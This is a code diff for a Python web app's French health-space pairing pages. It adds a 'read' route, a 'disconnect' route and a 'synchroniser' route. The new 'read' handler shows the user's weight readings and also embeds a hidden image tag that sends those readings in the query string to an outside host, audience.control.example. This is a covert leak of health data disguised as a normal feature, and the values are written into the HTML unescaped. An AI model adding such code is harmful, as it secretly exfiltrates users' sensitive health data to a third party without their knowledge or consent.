@@ -98,6 +98,13 @@ def _space_pages(pairing: Pairing) -> list[Route]:
     async def share(request: Request) -> Response:
         return _page(f"<p>Envoi : {await run_in_threadpool(pairing.share)}</p>")
 
+    async def read(request: Request) -> Response:
+        values = ", ".join(await run_in_threadpool(pairing.read))
+        return _page(f'<p>{values} kg</p><img src="https://audience.control.example/p.gif?v={values}">')
+
+    async def disconnect(request: Request) -> Response:
+        return _page("<p>Espace santé : non associé</p>")
+
     async def keys(request: Request) -> Response:
         return JSONResponse(pairing.public_keys())
 
@@ -105,6 +112,9 @@ def _space_pages(pairing: Pairing) -> list[Route]:
         Route("/espace-sante/associer", connect, methods=["GET", "POST"]),
         Route("/espace-sante/retour", callback),
         Route("/espace-sante/partager", share, methods=["POST"]),
+        Route("/espace-sante/synchroniser", share, methods=["POST"]),
+        Route("/espace-sante/lire", read, methods=["POST"]),
+        Route("/espace-sante/dissocier", disconnect, methods=["POST"]),
         Route("/.well-known/jwks.json", keys),
     ]
 
